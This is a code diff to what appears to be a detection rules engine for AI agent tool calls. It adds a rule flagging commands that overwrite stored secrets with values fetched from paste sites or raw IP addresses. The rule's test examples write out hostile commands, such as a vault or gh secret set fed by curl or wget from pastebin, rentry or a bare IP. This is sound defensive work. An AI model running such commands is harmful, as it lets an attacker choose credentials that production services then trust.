@@ -8,7 +8,7 @@ import { downstream, stagedFiles, stagedSource } from './exfiltration.js';
 import { containerVerbAt, editsInPlace, optionValue } from '../shell/command-args.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { printedCredential, takesSecretOnStdin } from '../knowledge/credential-commands.js';
-import { destinationOf, urlPath } from '../knowledge/hosts.js';
+import { destinationOf, EXFIL_KINDS, urlPath } from '../knowledge/hosts.js';
 import { browserDoes, jsonOrUndefined, nameWords, paramsJson, searchTool } from '../tool-shape.js';
 import { isJsonObject } from '../toolcall.js';
 import { isFetcher } from './command_and_control.js';
@@ -537,6 +537,21 @@ function storedSecretRevealed(i: AnalysisInput): string | undefined {
   // and a whole vault exported, unless into the manager's own encrypted format
   const encrypted = p.encrypted === true || (typeof p.format === 'string' && /encrypt/i.test(p.format));
   return store && words.includes('export') && words.includes('vault') && !encrypted ? sent.toolName : undefined;
+}
+
+/** A command that writes a value into a secret store: Vault, the clouds' secret managers and parameter stores, a cluster, a CI's secrets, Doppler. */
+function setsSecret(c: SimpleCommand): boolean {
+  const a = c.argv;
+  switch (c.name) {
+    case 'vault': case 'bao': return (a[1] === 'kv' && ['put', 'patch'].includes(a[2] ?? '')) || a[1] === 'write';
+    case 'aws': return (hasArg(c, 'secretsmanager') && hasArg(c, 'put-secret-value', 'update-secret', 'create-secret')) || (hasArg(c, 'ssm') && hasArg(c, 'put-parameter'));
+    case 'gcloud': return hasArg(c, 'secrets') && hasArg(c, 'add', 'create');
+    case 'az': return hasArg(c, 'keyvault') && hasArg(c, 'secret') && hasArg(c, 'set');
+    case 'kubectl': return hasArg(c, 'secret') && hasArg(c, 'create');
+    case 'gh': case 'glab': return hasArg(c, 'secret', 'variable') && hasArg(c, 'set');
+    case 'doppler': return hasArg(c, 'secrets') && hasArg(c, 'set');
+    default: return false;
+  }
 }
 
 const REVEALS = new Set(['get', 'read', 'reveal', 'retrieve', 'export', 'fetch', 'show', 'decode', 'view', 'dump']);
@@ -1219,6 +1234,23 @@ export const CREDENTIAL_RULES: readonly Rule[] = [
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__aws__secretsmanager_batch_get_secret_value', params: { Filters: [{ Key: 'name', Values: ['prod/'] }], MaxResults: 20 } } }, { Unknown: { tool_name: 'mcp__gcp__secretmanager_access_secret_versions', params: { project: 'acme-prod', secrets: ['stripe-live-key', 'sendgrid-api-key', 'db-root-password'], version: 'latest' } } }, { Unknown: { tool_name: 'mcp__azure__keyvault_secrets_export', params: { vaultName: 'kv-acme-prod', includeValues: true } } }, { Unknown: { tool_name: 'mcp__aws__ssm_get_parameters_by_path', params: { Path: '/', Recursive: true, WithDecryption: true } } }],
       quiet: [{ Unknown: { tool_name: 'mcp__aws__secretsmanager_get_secret_value', params: { SecretId: 'prod/orders-api/database-url' } } }, { Unknown: { tool_name: 'mcp__gcp__secretmanager_access_secret_versions', params: { project: 'acme-prod', secrets: ['orders-db-url'], version: 'latest' } } }, { Unknown: { tool_name: 'mcp__aws__secretsmanager_list_secrets', params: { Filters: [{ Key: 'name', Values: ['prod/'] }] } } }],
+    },
+  },
+  {
+    id: 'PX-CRED-041', name: 'sets-secret-from-drop-host', score: 80, tactic: 'persistence', technique: 'T1098',
+    message: 'Sets a stored secret to a value fetched from a paste site, file drop, webhook catcher or raw address',
+    why: "Whoever wrote that paste chooses the new value: an API key for their own account, a webhook secret they know, a password they can use. The service starts trusting it on its next read, and nothing looks wrong.",
+    alternative: "Rotate secrets through the store's own rotation, or with a value the user gives; never one fetched from a public paste.",
+    check: (i) => {
+      const cmds = i.view?.commands ?? [];
+      const setter = cmds.find(setsSecret);
+      if (!setter) return undefined;
+      const fetched = cmds.find((c) => c.origin === 'substitution' && isFetcher(c) && c.argv.some((w) => { const d = destinationOf(w); return d !== undefined && EXFIL_KINDS.has(d.kind) && d.kind !== 'chat-webhook'; }));
+      return fetched ? `${setter.argv.slice(0, 4).join(' ')} ← ${fetched.argv.join(' ').slice(0, 120)}` : undefined;
+    },
+    examples: {
+      fire: ['vault kv put secret/prod/stripe api_key="$(curl -s https://pastebin.com/raw/Xk29fQpL)"', 'aws secretsmanager put-secret-value --secret-id prod/internal-api/admin-key --secret-string "$(curl -s https://rentry.co/k9x2m/raw)"', 'gh secret set NPM_TOKEN --body "$(wget -qO- http://45.137.21.9/t)"'],
+      quiet: ['vault kv put secret/dev/app api_key="$(openssl rand -hex 32)"', 'aws secretsmanager put-secret-value --secret-id dev/app --secret-string "$(cat new-key.txt)"', 'curl -s https://pastebin.com/raw/Xk29fQpL > notes.txt'],
     },
   },
 ];
